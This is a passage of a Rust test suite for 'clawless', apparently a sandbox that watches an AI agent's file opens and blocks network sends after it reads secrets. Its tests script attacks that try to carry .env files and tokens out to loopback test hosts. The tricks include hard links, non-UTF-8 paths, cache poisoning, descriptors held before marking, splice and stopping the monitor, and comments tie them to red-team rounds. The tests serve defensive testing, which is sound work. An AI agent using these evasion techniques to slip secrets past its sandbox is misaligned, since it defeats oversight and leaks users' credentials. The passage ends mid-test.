/// nonutf8-dir-never-walked: a secret below a directory whose name is not UTF-8.
#[test]
fn isolated_files_a_secret_below_a_non_utf8_directory_taints() {
    use std::os::unix::ffi::OsStrExt;
    let f = Fixture::new("iso-nonutf8").with_attack();
    let d = f.ws.join(std::ffi::OsStr::from_bytes(b"\xffdir"));
    std::fs::create_dir(&d).unwrap();
    std::fs::write(d.join(".env"), "SECRET-A-nonutf8-55\n").unwrap();
    let server = Tcp::new("127.77.16.2", 443);
    let script = "./attack tcp 127.77.16.2 443 PRE-TAINT-CHANNEL-OK; d=$(printf '\\377dir'); ./attack isoleak plain \"$d/.env\" 127.77.16.2 443";
    let o = f.run(&[], &["/bin/sh", "-c", script]);
    let got = server.received();
    assert!(got.starts_with("PRE-TAINT-CHANNEL-OK"), "{}", show(&o));
    assert!(
        stdout(&o).contains("isoleak read: 20"),
        "the secret was not read\n{}",
        show(&o)
    );
    assert!(!got.contains("LEAK:"), "the secret left: {got:?}\n{}", show(&o));
    kernel_decided(&o);
}

/// monitor-open-skips-tripwire: an open the monitor performs for the agent
/// (`O_CREAT`, `openat2`) of a hard link to a tripwire fires it (looked up by
/// inode). Mediated mode knows a secret's other names only from its listing of
/// literal directories (runtime/src/aliases.rs), so this is isolated files' claim.
#[test]
fn isolated_files_monitor_opens_of_a_hard_link_to_a_secret_taint() {
    if !kernel_opens() {
        eprintln!(
            "not run: a tripwire's other names are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)"
        );
        return;
    }
    for (i, how) in ["creat", "openat2", "plain"].iter().enumerate() {
        let f = Fixture::new(&format!("iso-hardlink-{how}")).with_attack();
        std::fs::write(f.ws.join(".env"), "SECRET-ENV-7f3a9c\n").unwrap();
        std::fs::hard_link(f.ws.join(".env"), f.ws.join("notes.txt")).unwrap();
        let o = leak_attempt(&f, &format!("127.77.16.{}", 10 + i), how, "notes.txt", &[]);
        kernel_decided(&o);
    }
}

/// A tree walk's directory open: `openat(parentfd, ".env", O_RDONLY|O_DIRECTORY|...)`
/// relative to a descriptor is decided in the kernel (only `O_DIRECTORY` opens from
/// the working directory are notified), so a secret directory's tripwire (its
/// fanotify mark has `FAN_ONDIR`) must fire: a directory named like a secret
/// (`/**/.env`, `/**/.env.*`), listed and a file in it read through that
/// descriptor, taints, and the send after is refused.
#[test]
fn isolated_files_a_secret_directory_opened_relative_to_a_descriptor_taints() {
    for (i, dir) in [".env", ".env.d"].iter().enumerate() {
        let f = Fixture::new(&format!("iso-dirat-{i}")).with_attack();
        std::fs::create_dir_all(f.ws.join("conf").join(dir)).unwrap();
        std::fs::write(f.ws.join("conf").join(dir).join("token"), "SECRET-dirat-41\n").unwrap();
        let o = leak_attempt(
            &f,
            &format!("127.77.92.{}", i + 1),
            "dirat",
            &format!("conf/{dir}/token"),
            &[],
        );
        let out = stdout(&o);
        assert!(
            out.contains("isoleak dirat: ok=") && out.contains("isoleak getdents: ok="),
            "{dir}: the directory was not opened and listed through the descriptor\n{}",
            show(&o)
        );
        kernel_decided(&o);
    }
}

/// `O_TMPFILE` is `__O_TMPFILE | O_DIRECTORY`: relative to a descriptor it is
/// still a creation the monitor decides (the filter notifies its own bit), so a
/// directory the policy does not let the agent write refuses it with the
/// policy's errno (`EPERM`), not Landlock's `EACCES`; in the workspace it is made.
#[test]
fn isolated_files_an_o_tmpfile_relative_to_a_descriptor_is_the_monitors() {
    let f = Fixture::new("iso-tmpfileat").with_attack();
    let o = f.sh("./attack tmpfileat /usr/lib .; ./attack tmpfileat . .");
    let out = stdout(&o);
    assert!(out.matches("tmpfileat dir: ok=").count() == 2, "{}", show(&o));
    let lines: Vec<&str> = out.lines().filter(|l| l.starts_with("tmpfileat:")).collect();
    assert_eq!(lines.len(), 2, "{}", show(&o));
    assert!(
        lines[0].starts_with("tmpfileat: errno=1 "),
        "O_TMPFILE in /usr/lib: want the policy's EPERM\n{}",
        show(&o)
    );
    assert!(
        lines[1].starts_with("tmpfileat: ok="),
        "O_TMPFILE in the workspace: want it made\n{}",
        show(&o)
    );
    kernel_decided(&o);
}

/// watcher-fifo-wedge: exchanging a watched directory with a FIFO many times does
/// not wedge the watcher; a secret created outside afterwards is still marked.
#[test]
fn isolated_files_the_watcher_survives_a_fifo_exchanged_for_a_directory() {
    let ip = "127.77.16.20";
    let server = Tcp::new(ip, 443);
    let f = Fixture::new("iso-fifo-wedge").with_attack();
    let script = format!(
        "mkdir d && mkfifo f && ./attack fifoswap d f 20000; ./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain .env.local {ip} 443"
    );
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
    let pid = child.id();
    server.wait_pre_taint("watcher-fifo-wedge");
    std::fs::write(f.ws.join(".env.local"), "USER-SECRET-B-created-outside-99\n").unwrap();
    if kernel_opens() {
        use std::os::unix::fs::MetadataExt;
        let ino = std::fs::metadata(f.ws.join(".env.local")).unwrap().ino();
        let armed = || fanotify_marks(pid, ino);
        let made = std::time::Instant::now();
        wait_until(Duration::from_secs(30), Duration::from_millis(1), armed);
        eprintln!(
            "the new secret was marked {:?} after its creation",
            made.elapsed()
        );
        let threads: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/task"))
            .into_iter()
            .flatten()
            .flatten()
            .map(|t| {
                let r = |f: &str| std::fs::read_to_string(t.path().join(f)).unwrap_or_default();
                let utime = r("stat").split(' ').nth(13).unwrap_or("").to_string();
                format!("{} {} {utime}", r("comm").trim(), r("wchan"))
            })
            .collect();
        assert!(
            armed(),
            "the watcher did not mark the new secret within 30 s (wedged?): {threads:?}"
        );
    }
    let o = go_and_wait(&f, child);
    assert!(
        stdout(&o).contains("fifoswap: 20000 of 20000 exchanges"),
        "{}",
        show(&o)
    );
    assert_isoleak_read_but_tainted(&o, &server, "isoleak read: 33", "watcher-fifo-wedge");
}

/// walk-bound-cache-poison: discovery that reaches its entry bound keeps opens
/// mediated for that run (and says so), and caches nothing of the cut-short walk:
/// the next run (no lowered bound) still makes the secret a tripwire.
#[test]
fn isolated_files_discovery_past_its_bound_falls_back_and_is_not_cached() {
    let f = Fixture::new("iso-walk-bound").with_attack();
    std::fs::create_dir(f.ws.join("sub")).unwrap();
    for i in 0..200 {
        std::fs::write(f.ws.join(format!("junk{i}")), "").unwrap();
    }
    std::fs::write(f.ws.join("sub/.env"), "SECRET6-walkbound-42\n").unwrap();
    let o = leak_attempt(
        &f,
        "127.77.16.30",
        "plain",
        "sub/.env",
        &[("CLAWLESS_DISCOVERY_BOUND", "50")],
    );
    if kernel_opens() {
        assert!(
            stderr(&o).contains("opens are mediated: discovery reached its bound of 50 entries"),
            "{}",
            show(&o)
        );
        // The attempt with kernel-decided opens said nothing: one mode line.
        assert_eq!(
            stderr(&o).matches("clawless: isolated mode").count(),
            1,
            "{}",
            show(&o)
        );
    }
    let o = leak_attempt(&f, "127.77.16.31", "plain", "sub/.env", &[]);
    kernel_decided(&o);
}

/// cache-mtime-poison: the discovery cache is not fooled by a directory whose
/// mtime was restored with `utimensat` after a secret was moved into it.
#[test]
fn isolated_files_a_restored_mtime_does_not_hide_a_moved_secret() {
    let f = Fixture::new("iso-mtime").with_attack();
    std::fs::create_dir(f.ws.join("d")).unwrap();
    std::fs::write(f.ws.join(".env"), "SECRET-ENV2-c0ffee\n").unwrap();
    // Older than the cache's distrust of fresh timestamps.
    std::thread::sleep(Duration::from_millis(2100));
    let o = f.run(&[], &["/bin/true"]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    kernel_decided(&o);
    // Move the secret and put both directories' times back.
    let times = |p: &std::path::Path| {
        use std::os::unix::fs::MetadataExt;
        let m = std::fs::metadata(p).unwrap();
        [
            libc::timespec {
                tv_sec: m.atime(),
                tv_nsec: m.atime_nsec(),
            },
            libc::timespec {
                tv_sec: m.mtime(),
                tv_nsec: m.mtime_nsec(),
            },
        ]
    };
    let (ws_t, d_t) = (times(&f.ws), times(&f.ws.join("d")));
    std::fs::rename(f.ws.join(".env"), f.ws.join("d/.env")).unwrap();
    for (p, t) in [(&f.ws, ws_t), (&f.ws.join("d"), d_t)] {
        use std::os::unix::ffi::OsStrExt;
        let c = std::ffi::CString::new(p.as_os_str().as_bytes()).unwrap();
        // SAFETY: `c` is a NUL-terminated path and `t` an array of the two
        // timespecs utimensat reads; both outlive the call.
        let r = unsafe { libc::utimensat(libc::AT_FDCWD, c.as_ptr(), t.as_ptr(), 0) };
        assert_eq!(r, 0);
    }
    assert_eq!(times(&f.ws)[1].tv_nsec, ws_t[1].tv_nsec, "the mtime was restored");
    let o = leak_attempt(&f, "127.77.16.40", "plain", "d/.env", &[]);
    kernel_decided(&o);
}

/// credential-in-readable-cache: Hugging Face's token in the readable cache is a
/// secret (every mode).
#[test]
fn isolated_files_a_hugging_face_token_in_the_cache_taints() {
    let f = Fixture::new("iso-hf-token").with_attack();
    std::fs::create_dir_all(f.home.join(".cache/huggingface")).unwrap();
    std::fs::write(f.home.join(".cache/huggingface/token"), "hf_REDTEAM_token_1234\n").unwrap();
    let path = f.home.join(".cache/huggingface/token").display().to_string();
    let o = leak_attempt(&f, "127.77.16.50", "plain", &path, &[]);
    kernel_decided(&o);
}

/// default-profile-never-isolated: the default profile runs with kernel-decided
/// opens although it carves its policy cache out of the writable caches, and the
/// carve holds: the agent cannot write the policy cache (by a creation, which the
/// monitor decides, or by a plain open for writing, which Landlock decides), while
/// a sibling cache stays writable both ways.
#[test]
fn isolated_files_the_policy_cache_stays_unwritable() {
    let f = Fixture::new("iso-policy-cache").with_attack();
    let cache = f.home.join(".cache");
    std::fs::create_dir_all(cache.join("clawless")).unwrap();
    std::fs::create_dir_all(cache.join("pip")).unwrap();
    std::fs::write(cache.join("clawless/policy.bin"), "ORIGINAL").unwrap();
    std::fs::write(cache.join("pip/entry"), "ORIGINAL").unwrap();
    let script = "c=$HOME/.cache; \
        echo x > $c/clawless/evil; echo \"creat: $?\"; \
        printf EVIL | dd of=$c/clawless/policy.bin conv=nocreat,notrunc 2>/dev/null; echo \"plain write: $?\"; \
        echo y > $c/pip/new; echo \"sibling creat: $?\"; \
        printf GOOD | dd of=$c/pip/entry conv=nocreat,notrunc 2>/dev/null; echo \"sibling plain write: $?\"";
    let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
    cmd.env_remove("XDG_CACHE_HOME");
    let o = run_with_deadline(cmd, Duration::from_secs(120));
    let out = stdout(&o);
    assert!(
        out.contains("sibling plain write: 0"),
        "the probe did not run\n{}",
        show(&o)
    );
    let line = |l: &str| out.lines().any(|x| x == l);
    assert!(!line("creat: 0") && !line("plain write: 0"), "{}", show(&o));
    assert!(out.contains("sibling creat: 0"), "{}", show(&o));
    assert!(
        !cache.join("clawless/evil").exists(),
        "the policy cache was written\n{}",
        show(&o)
    );
    assert_eq!(
        std::fs::read_to_string(cache.join("clawless/policy.bin")).unwrap(),
        "ORIGINAL",
        "{}",
        show(&o)
    );
    assert_eq!(
        std::fs::read_to_string(cache.join("pip/entry")).unwrap(),
        "GOODINAL",
        "{}",
        show(&o)
    );
    kernel_decided(&o);
}

/// host-opens-block-on-monitor: a process outside the sandbox that opens a file
/// the sandbox's tripwires marked is answered at once (ahead of the sandbox's own
/// opens, which the monitor decides) while the agent floods that tripwire. (A
/// stopped `clawless`: `isolated_files_a_stopped_clawless_does_not_stall_outside_opens`.)
#[test]
fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_floods_it() {
    if !kernel_opens() {
        eprintln!("not run: tripwires are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
        return;
    }
    let f = Fixture::new("iso-host-opens").with_attack();
    std::fs::write(f.ws.join(".env"), "A=1\n").unwrap();
    let script = "cat .env >/dev/null && touch flooding; \
        for i in 1 2 3; do (n=0; while [ $n -lt 400 ]; do cat .env .env .env .env >/dev/null; n=$((n+1)); done) & done; wait; echo flooded";
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", script]));
    assert!(
        wait_for_file(&f.ws.join("flooding"), Duration::from_secs(60)),
        "the agent did not start flooding"
    );
    let mut worst = Duration::ZERO;
    for _ in 0..200 {
        let t = std::time::Instant::now();
        let text = std::fs::read_to_string(f.ws.join(".env")).unwrap();
        worst = worst.max(t.elapsed());
        assert_eq!(text, "A=1\n");
    }
    let o = wait_with_deadline(child, Duration::from_secs(180));
    assert!(stdout(&o).contains("flooded"), "{}", show(&o));
    kernel_decided(&o);
    eprintln!("worst outside open of the tripwire during the flood: {worst:?}");
    assert!(
        worst < Duration::from_millis(500),
        "an outside open waited {worst:?}"
    );
}

/// Does some fanotify group of process `pid` (a `clawless` run: its tripwires
/// and the watcher's marks) mark inode `ino`? Read from its descriptors'
/// `/proc/PID/fdinfo` (`fanotify ino:HEX ...` lines).
fn fanotify_marks(pid: u32, ino: u64) -> bool {
    let ino = format!("ino:{ino:x} ");
    std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
        .into_iter()
        .flatten()
        .flatten()
        .any(|e| {
            std::fs::read_to_string(e.path())
                .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
        })
}

/// Is some fanotify group of process `pid` marking the inode of `path` (a
/// symlink followed)? No, if `path` names nothing.
fn marked_by(pid: u32, path: &std::path::Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata(path).is_ok_and(|m| fanotify_marks(pid, m.ino()))
}

/// Waits (every millisecond, up to `limit`) until [`marked_by`] holds; returns
/// whether it does (the caller asserts where the mark must have come).
fn wait_marked_by(pid: u32, path: &std::path::Path, limit: Duration) -> bool {
    wait_until(limit, Duration::from_millis(1), || marked_by(pid, path))
}

/// watcher-window-early-open (red team round 4), made deterministic: the agent
/// holds an ordinary file (`how`: a descriptor, a shared mapping, a descriptor in
/// flight in a socket's queue) when the user's tool renames it to `.env` and
/// writes the secret into it; the watcher's mark meets only later opens, so the
/// late mark must find what the sandbox holds and decide a read for it first.
fn early_hold_taints(how: &str, ip: &str) {
    if !kernel_opens() {
        eprintln!(
            "not run: late marks are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated mode decides opens by name and has no marks (docs/threat-model.md)"
        );
        return;
    }
    let f = Fixture::new(&format!("iso-early-{how}")).with_attack();
    std::fs::write(f.ws.join("draft"), vec![0u8; 4096]).unwrap();
    let server = Tcp::new(ip, 443);
    let script =
        format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack earlyhold {how} draft {ip} 443");
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
    let pid = child.id();
    let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
    if held {
        // The user's tool: `draft` becomes `.env`, then the secret goes in.
        std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
        assert!(
            wait_marked_by(pid, &f.ws.join(".env"), Duration::from_secs(30)),
            "the watcher did not mark .env"
        );
        // forkhop: after the scan (about 0.4 s over the fillers' descriptors
        // here): bytes read before it ends are a limit of their own
        // (docs/threat-model.md), not what this attack tries.
        let after = if how == "forkhop" { 4000 } else { 300 };
        std::thread::sleep(Duration::from_millis(after));
        write_in_place(&f.ws.join(".env"), b"SECRET-ENV-early-held-5150\n");
    }
    let o = go_and_wait(&f, child);
    let out = stdout(&o);
    let read = if how == "inflight" || how == "splicepass" {
        // Passed into the queue and closed; after the taint the socket that holds
        // it is shut (its receive is refused), which is the taint too.
        assert!(
            out.contains("earlyhold pass: ok="),
            "the attack did not run\n{}",
            show(&o)
        );
        "earlyhold receive: "
    } else {
        assert!(
            how != "forkhop" || out.contains("earlyhold forked: 1"),
            "the holder did not fork\n{}",
            show(&o)
        );
        assert!(
            !out.contains("earlyhold read: -1"),
            "the attack did not read\n{}",
            show(&o)
        );
        "earlyhold read: "
    };
    assert_read_but_tainted(&o, &server.received(), held, read, how);
}

#[test]
fn isolated_files_a_descriptor_held_before_the_mark_taints_when_it_lands() {
    early_hold_taints("fd", "127.77.16.60");
}

#[test]
fn isolated_files_a_mapping_held_before_the_mark_taints_when_it_lands() {
    early_hold_taints("map", "127.77.16.61");
}

/// Red team round 5 (zombie-leader-mapping): the mapping's process has no live
/// thread-group leader (it exited alone), so `/proc/<pid>/map_files`, the leader's,
/// is empty; the late-mark scan must look at each address space's own threads.
#[test]
fn isolated_files_a_mapping_held_by_a_process_whose_leader_exited_taints_when_the_mark_lands() {
    early_hold_taints("zmap", "127.77.16.79");
}

/// Red team round 5 (fork-after-scan-start): the descriptor moves by `fork` into
/// a process created after the late-mark scan listed `/proc` (two fillers with
/// 20,000 descriptors each make the scan longer), and its holder closes its own
/// copy: the scan lists `/proc` again until no new process appears.
#[test]
fn isolated_files_a_descriptor_moved_by_fork_during_the_scan_taints_when_it_lands() {
    early_hold_taints("forkhop", "127.77.16.80");
}

/// A `std::time::Duration` as `Debug` prints it (`1.5s`, `250.3ms`, `80µs`).
fn parse_debug_duration(s: &str) -> Option<Duration> {
    let (num, unit) = [("ms", 1e-3), ("µs", 1e-6), ("ns", 1e-9), ("s", 1.0)]
        .into_iter()
        .find_map(|(u, k)| s.strip_suffix(u).map(|n| (n, k)))?;
    num.parse::<f64>().ok().map(|n| Duration::from_secs_f64(n * unit))
}

/// Red team round 5 (slow-scan): the late-mark scan looks at every descriptor of
/// every sandbox process before it decides, so the agent chooses how long it
/// takes (fillers holding ~20,000 descriptors each); a descriptor held from
/// before the mark reads the secret written while the scan runs, and sends it
/// before the transition fires. The sandbox is frozen for the scan (its own
/// cgroup, `crate::cgroup`): what it reads after the thaw is read tainted.
/// With `CLAWLESS_TEST_NO_CGROUP=1` (no cgroup, the scan unfrozen) this leaks.
#[test]
fn isolated_files_a_descriptor_read_while_the_late_mark_scan_runs_is_read_tainted() {
    if !kernel_opens() {
        eprintln!(
            "not run: late marks are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated mode decides opens by name and has no marks (docs/threat-model.md)"
        );
        return;
    }
    let ip = "127.77.16.81";
    let f = Fixture::new("iso-slow-scan").with_attack();
    std::fs::write(f.ws.join("draft"), "draft\n").unwrap();
    let server = Tcp::new(ip, 443);
    let script = format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack slowscan draft 10 {ip} 443");
    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
    cmd.env("CLAWLESS_TRACE_DISCOVERY", "1");
    let child = spawn_piped(cmd);
    let pid = child.id();
    let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
    let mut late = None;
    if held {
        // The user's tool: `draft` becomes `.env`; the secret goes in while the
        // late-mark scan (over the fillers' descriptors) runs.
        std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
        wait_marked_by(pid, &f.ws.join(".env"), Duration::from_secs(30));
        let marked = std::time::Instant::now();
        std::thread::sleep(Duration::from_millis(30));
        write_in_place(&f.ws.join(".env"), b"SECRET-ENV-slow-scan-7070\n");
        late = Some(marked.elapsed());
    }
    let o = wait_with_deadline(child, Duration::from_secs(120));
    let out = stdout(&o);
    let err = stderr(&o);
    assert_read_but_tainted(
        &o,
        &server.received(),
        held,
        "slowscan read: SECRET-ENV-slow-scan-7070",
        "slowscan",
    );
    assert!(
        out.contains("slowscan fillers: 10 with "),
        "the fillers did not start\n{}",
        show(&o)
    );
    // The secret was written while the scan ran (it outlasted the write).
    let scan = err
        .lines()
        .find(|l| l.contains("late mark of ") && l.contains(".env: scan "))
        .and_then(|l| l.split(": scan ").nth(1))
        .and_then(|r| r.split(',').next())
        .and_then(parse_debug_duration);
    let late = late.unwrap();
    assert!(
        scan.is_some_and(|d| d > late),
        "the scan ({scan:?}) did not outlast the write of the secret ({late:?} after the mark)\n{}",
        show(&o)
    );
    eprintln!("late-mark scan {scan:?}; the secret written {late:?} after the mark");
    assert!(
        err.contains("sandbox frozen"),
        "the scan did not freeze the sandbox\n{}",
        show(&o)
    );
}

/// The cgroup2 mount point and this process's own cgroup (`0::` line), if any.
fn cgroup2() -> Option<(std::path::PathBuf, String)> {
    let mi = std::fs::read_to_string("/proc/self/mountinfo").ok()?;
    let point = mi.lines().find_map(|l| {
        let (pre, post) = l.split_once(" - ")?;
        (post.starts_with("cgroup2 ") && pre.split(' ').nth(3) == Some("/"))
            .then(|| pre.split(' ').nth(4).map(std::path::PathBuf::from))
            .flatten()
    })?;
    let own = std::fs::read_to_string("/proc/self/cgroup").ok()?;
    let own = own.lines().find_map(|l| l.strip_prefix("0::"))?.to_string();
    Some((point, own))
}

/// The sandbox's cgroup (`crate::cgroup`, isolated mode, root): every process of
/// the sandbox is in `clawless.<pid>` below our own cgroup while it runs (the
/// agent's `/proc/self/cgroup`, and the directory's `cgroup.procs` from outside),
/// and the directory is gone afterwards.
#[test]
fn isolated_the_sandbox_runs_in_a_cgroup_of_its_own_removed_at_the_end() {
    // SAFETY: geteuid takes nothing and cannot fail.
    if mediated() || unsafe { libc::geteuid() } != 0 {
        eprintln!("not run: the sandbox's cgroup is isolated mode's, made as root");
        return;
    }
    let Some((mount, own)) = cgroup2() else {
        eprintln!("not run: no cgroup2 hierarchy here");
        return;
    };
    let f = Fixture::new("iso-cgroup");
    let script = "cat /proc/self/cgroup; (sleep 30 & wait) & touch started; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; echo done";
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", script]));
    let pid = child.id();
    let dir = mount
        .join(own.trim_start_matches('/'))
        .join(format!("clawless.{pid}"));
    wait_for_file(&f.ws.join("started"), Duration::from_secs(60));
    let procs = std::fs::read_to_string(dir.join("cgroup.procs")).unwrap_or_default();
    let procs: Vec<i32> = procs.lines().filter_map(|l| l.parse().ok()).collect();
    // Every process below clawless (the listener and helpers are clawless's own,
    // outside) that is in the sandbox's pid namespace is in the cgroup.
    let ns = |p: i32| std::fs::read_link(format!("/proc/{p}/ns/pid")).ok();
    let sandbox_ns = procs.first().and_then(|&p| ns(p));
    let outside: Vec<i32> = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
        .filter(|&p| !procs.contains(&p))
        // Asked of each process itself (the shell's loop forks a `sleep` every
        // 50 ms, after the list above was read); one gone meanwhile is no answer.
        .filter(|&p| {
            std::fs::read_to_string(format!("/proc/{p}/cgroup")).is_ok_and(|c| {
                !c.lines()
                    .any(|l| l.starts_with("0::") && l.ends_with(&format!("/clawless.{pid}")))
            })
        })
        .filter(|&p| {
            // The sandbox's processes: the init (a child of clawless, pid 1 of
            // the namespace its children are in) and everything in its namespace.
            let child_ns = std::fs::read_to_string(format!("/proc/{p}/status"))
                .ok()
                .and_then(|s| s.lines().find(|l| l.starts_with("NSpid:")).map(str::to_string))
                .is_some_and(|l| l.split_whitespace().count() > 2);
            child_ns && sandbox_ns.is_some() && ns(p) == sandbox_ns
        })
        .collect();
    let o = go_and_wait(&f, child);
    assert!(stdout(&o).contains("done"), "{}", show(&o));
    let line = stdout(&o)
        .lines()
        .find(|l| l.starts_with("0::"))
        .map(str::to_string)
        .unwrap_or_default();
    assert!(
        line.ends_with(&format!("/clawless.{pid}")),
        "the agent is not in the sandbox's cgroup: {line:?}\n{}",
        show(&o)
    );
    assert!(
        procs.len() >= 3,
        "the cgroup holds {procs:?} (the init, the agent's shell, its children)\n{}",
        show(&o)
    );
    assert!(
        outside.is_empty(),
        "sandbox processes outside the cgroup: {outside:?}"
    );
    assert!(
        stderr(&o).contains(", a cgroup"),
        "the mode line does not say so\n{}",
        show(&o)
    );
    assert!(!dir.exists(), "{} is left after the run", dir.display());
}

/// Without a usable cgroup (the test hook `CLAWLESS_TEST_NO_CGROUP=1` stands for
/// a machine without a writable cgroup2, `crate::cgroup`) the sandbox runs as
/// before, and where late marks would freeze it the mode line says they cannot.
#[test]
fn isolated_files_without_a_cgroup_the_sandbox_runs_and_says_late_marks_cannot_freeze_it() {
    if !kernel_opens() {
        eprintln!("not run: the note is isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
        return;
    }
    let f = Fixture::new("iso-no-cgroup");
    let mut cmd = f.command(&[], &["/bin/sh", "-c", "cat /proc/self/cgroup; echo ran"]);
    cmd.env("CLAWLESS_TEST_NO_CGROUP", "1");
    let o = run_with_deadline(cmd, Duration::from_secs(120));
    assert_eq!(code(&o), 0, "{}", show(&o));
    assert!(stdout(&o).contains("ran"), "{}", show(&o));
    assert!(
        !stdout(&o).contains("/clawless."),
        "a cgroup was made\n{}",
        show(&o)
    );
    assert!(
        stderr(&o).contains(
            "; late-mark scans cannot freeze the sandbox (no cgroup of its own: CLAWLESS_TEST_NO_CGROUP is set (a test hook))"
        ),
        "{}",
        show(&o)
    );
    assert!(!stderr(&o).contains(", a cgroup"), "{}", show(&o));
    kernel_decided(&o);
}

/// Red team round 7 (splice-page-holder): the file's page itself in a pipe's
/// buffer (`splice`), every descriptor of the file closed: the pipe reads what
/// is written into the page later. A pipe or socket with data queued is a
/// holder. (`vmsplice` of a shared mapping does the same; the default profile
/// refuses `vmsplice`, and the same check covers it where a policy allows it.)
#[test]
fn isolated_files_a_page_held_in_a_pipe_before_the_mark_taints_when_it_lands() {
    early_hold_taints("splice", "127.77.16.85");
    // The pipe in flight only, in a 0-byte datagram (red team round 8).
    early_hold_taints("splicepass", "127.77.16.86");
}

#[test]
fn isolated_files_a_descriptor_in_flight_before_the_mark_taints_when_it_lands() {
    early_hold_taints("inflight", "127.77.16.62");
}

/// The tripwire listener of the `clawless` run `pid` (a child named `claw-tripwires`).
fn tripwire_listener(pid: u32) -> Option<i32> {
    std::fs::read_dir("/proc").ok()?.flatten().find_map(|e| {
        let p: i32 = e.file_name().to_str()?.parse().ok()?;
        let stat = std::fs::read_to_string(format!("/proc/{p}/stat")).ok()?;
        let rest = &stat[stat.rfind(')')? + 1..];
        let ppid: u32 = rest.split_whitespace().nth(1)?.parse().ok()?;
        (ppid == pid && stat.contains("(claw-tripwires)")).then_some(p)
    })
}

/// Starts an agent that proves its channel, creates `started`, then waits for
/// `go` (up to 20 s) and tries to send `.env`; returns once `.env` is marked.
fn start_tripwired_agent(f: &Fixture, ip: &str) -> std::process::Child {
    std::fs::write(f.ws.join(".env"), "SECRET-ENV-listener-4242\n").unwrap();
    let script = format!(
        "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; touch started; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; echo survived; ./attack isoleak plain .env {ip} 443"
    );
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
    wait_for_file(&f.ws.join("started"), Duration::from_secs(60));
    child
}

/// a stopped clawless stalls outside opens (red team rounds 3 and 4): with
/// `clawless` stopped (`SIGSTOP`: what `^Z`'s `SIGTSTP` does to it too), a process
/// outside the sandbox that opens a file `clawless` marked is answered at once by
/// the listener, a process of its own.
#[test]
fn isolated_files_a_stopped_clawless_does_not_stall_outside_opens() {
    if !kernel_opens() {
        eprintln!("not run: tripwires are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
        return;
    }
    let ip = "127.77.16.63";
    let server = Tcp::new(ip, 443);
    let f = Fixture::new("iso-stopped").with_attack();
    let child = start_tripwired_agent(&f, ip);
    let pid = child.id();
    let started = f.ws.join("started").exists();
    let marked = marked_by(pid, &f.ws.join(".env"));
    let mut waited = None;
    for sig in [libc::SIGSTOP, libc::SIGTSTP] {
        if !(started && marked) {
            break;
        }
        // SAFETY: our own child.
        unsafe { libc::kill(pid as i32, sig) };
        // Until the kernel has stopped every thread of it.
        let t = std::time::Instant::now();
        while t.elapsed() < Duration::from_secs(5)
            && !std::fs::read_to_string(format!("/proc/{pid}/stat"))
                .is_ok_and(|s| s[s.rfind(')').unwrap() + 2..].starts_with('T'))
        {
            std::thread::sleep(Duration::from_millis(1));
        }
        let path = f.ws.join(".env");
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let t = std::time::Instant::now();
            let r = std::fs::read_to_string(path);
            let _ = tx.send((r.map_err(|e| e.to_string()), t.elapsed()));
        });
        let got = rx.recv_timeout(Duration::from_secs(5));
        // SAFETY: our own child.
        unsafe { libc::kill(pid as i32, libc::SIGCONT) };
        let got = got.or_else(|_| {
            rx.recv_timeout(Duration::from_secs(30))
                .map(|(r, _)| (r, Duration::MAX))
        });
        waited = Some((sig, got));
        if waited
            .as_ref()
            .is_some_and(|(_, g)| !matches!(g, Ok((Ok(_), d)) if *d < Duration::from_secs(5)))
        {
            break;
        }
    }
    let o = go_and_wait(&f, child);
    assert!(
        started && marked,
        "the agent did not start, or .env is no tripwire\n{}",
        show(&o)
    );
    assert!(
        server.received().starts_with("PRE-TAINT-CHANNEL-OK"),
        "the channel did not work\n{}",
        show(&o)
    );
    let (sig, got) = waited.expect("no stop was tried");
    match got {
        Ok((Ok(text), d)) if d < Duration::from_secs(5) => {
            assert_eq!(text, "SECRET-ENV-listener-4242\n");
            eprintln!("outside open of the tripwire with clawless stopped (signal {sig}): {d:?}");
        }
        other => panic!(
            "with clawless stopped by signal {sig}, an outside open of the tripwire stalled: {other:?}\n{}",
            show(&o)
        ),
    }
    assert!(!server.received().contains("LEAK:"), "{}", show(&o));
    kernel_decided(&o);
}

/// If the tripwire listener dies, its group would allow every open once closed:
/// the sandbox is killed first, and does not get to read the secret untainted.
#[test]
fn isolated_files_the_sandbox_does_not_outlive_its_tripwire_listener() {
    if !kernel_opens() {
        eprintln!("not run: tripwires are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
        return;
    }
    let ip = "127.77.16.64";
    let server = Tcp::new(ip, 443);
